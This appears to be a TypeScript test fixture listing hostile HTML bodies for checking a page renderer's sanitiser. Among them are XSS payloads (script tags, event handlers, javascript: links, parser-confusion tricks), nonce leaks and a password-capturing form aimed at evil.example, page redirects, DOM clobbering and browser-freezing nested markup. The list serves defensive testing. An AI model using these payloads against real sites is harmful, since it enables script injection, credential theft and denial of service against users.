import { noncePlaceholder } from '../renderer.ts'

/** Bodies that try to run `bwPwned()`, to load something, to leave the page or to break the browser; named by what they try. */
export const hostileBodies: Readonly<Record<string, string>> = {
  'a script': '<p>Words</p><script>bwPwned()</script>',
  'a script in mixed case': '<p>Words</p><ScRiPt>bwPwned()</sCrIpT>',
  'a script that is never closed': '<p>Words</p><script>bwPwned()',
  'a script with a slash': '<p>Words</p><script/x>bwPwned()</script>',
  'a script inside a script': '<scr<script>ipt>bwPwned()</scr</script>ipt><p>Words</p>',
  'a script from elsewhere': '<p>Words</p><script src="https://evil.example/x.js"></script>',
  'a script from a data address': '<p>Words</p><script src="data:text/javascript,bwPwned()"></script>',
  'a module script': '<p>Words</p><script type="module">bwPwned()</script>',
  'a script that asks for the nonce': `<p>Words</p><script nonce="${noncePlaceholder}">bwPwned()</script>`,
  'the nonce in a link': `<p>Words</p><a href="https://evil.example/?${noncePlaceholder}">x</a>`,
  'a script in a cell': '<table><tr><td>Words<script>bwPwned()</script></td></tr></table>',
  'a picture that fails': '<p>Words</p><img src=x onerror=bwPwned()>',
  'a picture that fails, without quotes or spaces': '<p>Words</p><img/src=x/onerror=bwPwned()>',
  'a picture from elsewhere': '<p>Words</p><img src="https://evil.example/pixel.gif" width="1" height="1">',
  'a picture with a set of sources':
    '<p>Words</p><img srcset="https://evil.example/a.png 1x, javascript:bwPwned() 2x">',
  'an svg that loads': '<p>Words</p><svg onload=bwPwned()></svg>',
  'an svg with a script': '<p>Words</p><svg><script>bwPwned()</script></svg>',
  'an svg with an animated link':
    '<p>Words</p><svg><a><animate attributeName=href values=javascript:bwPwned() /><text y=20>x</text></a></svg>',
  'an svg with a foreign object': '<p>Words</p><svg><foreignObject><body onload=bwPwned()></foreignObject></svg>',
  'an svg that uses a data address':
    '<p>Words</p><svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=bwPwned() /></svg>#x"></use></svg>',
  'mathematics with a link': '<p>Words</p><math href="javascript:bwPwned()">x</math>',
  'mathematics that changes the parser':
    '<p>Words</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=bwPwned()&gt;">',
  'a style that changes the parser': '<p>Words</p><svg></p><style><a id="</style><img src=1 onerror=bwPwned()>"></svg>',
  'a body that loads': '<body onload=bwPwned()><p>Words</p></body>',
  'a handler on a paragraph':
    '<p onclick="bwPwned()" onmouseover="bwPwned()" onfocus="bwPwned()" tabindex=0 autofocus>Words</p>',
  'a handler after a slash': '<p/onclick=bwPwned()>Words</p>',
  'a handler with a null byte': '<p on\u0000click=bwPwned()>Words</p><img src=x onerror\u0000=bwPwned()>',
  'a link that runs': '<p>Words</p><a href="javascript:bwPwned()">x</a>',
  'a link that runs, in mixed case': '<p>Words</p><a href="JaVaScRiPt:bwPwned()">x</a>',
  'a link that runs, with a tab': '<p>Words</p><a href="java\tscript:bwPwned()">x</a>',
  'a link that runs, with a line end': '<p>Words</p><a href="java\nscript:bwPwned()">x</a>',
  'a link that runs, as entities': '<p>Words</p><a href="&#106;avascript&colon;bwPwned()">x</a>',
  'a link that runs, after control characters': '<p>Words</p><a href="\u0001\u0002 javascript:bwPwned()">x</a>',
  'a link to data': '<p>Words</p><a href="data:text/html,<script>opener.bwPwned()</script>">x</a>',
  'a link to vbscript': '<p>Words</p><a href="vbscript:bwPwned()">x</a>',
  'a link into this site': '<p>Words</p><a href="/platform/trade?marketCode=LSE:HVL&instruction=S">x</a>',
  'a link without a scheme': '<p>Words</p><a href="//evil.example/">x</a>',
  'a link opened with our window':
    '<p>Words</p><a href="https://evil.example/" target="_blank" rel="opener" ping="https://evil.example/">x</a>',
  'a form':
    '<p>Words</p><form action="https://evil.example/"><input name=password autofocus onfocus=bwPwned()><button>Log in</button></form>',
  'a button with an action': '<p>Words</p><button formaction="javascript:bwPwned()">x</button>',
  'a frame that runs': '<p>Words</p><iframe src="javascript:parent.bwPwned()"></iframe>',
  'a frame with a document': '<p>Words</p><iframe srcdoc="<script>parent.bwPwned()</script>"></iframe>',
  'an object': '<p>Words</p><object data="javascript:bwPwned()"></object>',
  'an embed': '<p>Words</p><embed src="javascript:bwPwned()">',
  'a style sheet': '<p>Words</p><style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'a linked style sheet': '<p>Words</p><link rel=stylesheet href="https://evil.example/x.css">',
  'a style that covers the page':
    '<p style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/x)">Words</p>',
  'a class of ours': '<p class="bw-skip" data-bw-copy="x" data-bw-live="main">Words</p>',
  'a base': '<base href="https://evil.example/"><p>Words</p>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/"><p>Words</p>',
  'an id that hides one of ours': '<p>Words</p><a id="bw-status" name="getElementById">x</a><form id="main"></form>',
  'a sound': '<p>Words</p><audio src=x onerror=bwPwned()></audio><video><source onerror=bwPwned()></video>',
  'a disclosure that toggles': '<p>Words</p><details open ontoggle=bwPwned()>x</details>',
  'a marquee': '<p>Words</p><marquee onstart=bwPwned()>x</marquee>',
  'a template': '<p>Words</p><template><script>bwPwned()</script></template>',
  'a comment that ends early': '<p>Words</p><!--><img src=x onerror=bwPwned()>-->',
  'a conditional comment': '<p>Words</p><!--[if gte IE 4]><script>bwPwned()</script><![endif]-->',
  'a noscript that hides a picture':
    '<p>Words</p><noscript><p title="</noscript><img src=x onerror=bwPwned()>"></noscript>',
  'a text area that hides a picture':
    '<p>Words</p><textarea><p title="</textarea><img src=x onerror=bwPwned()>"></textarea>',
  'an xmp that hides a picture': '<p>Words</p><xmp><p title="</xmp><img src=x onerror=bwPwned()>"></xmp>',
  'an attribute that ends early': `<p>Words</p><abbr title="&quot;><img src=x onerror=bwPwned()>">x</abbr>`,
  'markup twice encoded':
    '<p>Words &amp;lt;img src=x onerror=bwPwned()&amp;gt; &lt;script&gt;bwPwned()&lt;/script&gt;</p>',
  'plain text to the end': '<p>Words</p><plaintext><script>bwPwned()</script>',
  'our own scroll frame, closed early': '</section></main><script>bwPwned()</script><p>Words</p></table></section>',
  'a table of a billion cells': '<table><tr><td colspan=1000000000 rowspan=65534>Words</td></tr></table>',
  'a hundred thousand nested boxes': `${'<div>'.repeat(100_000)}Words`,
  'a hundred thousand nested bold words': `${'<b><i>'.repeat(50_000)}Words`,
}
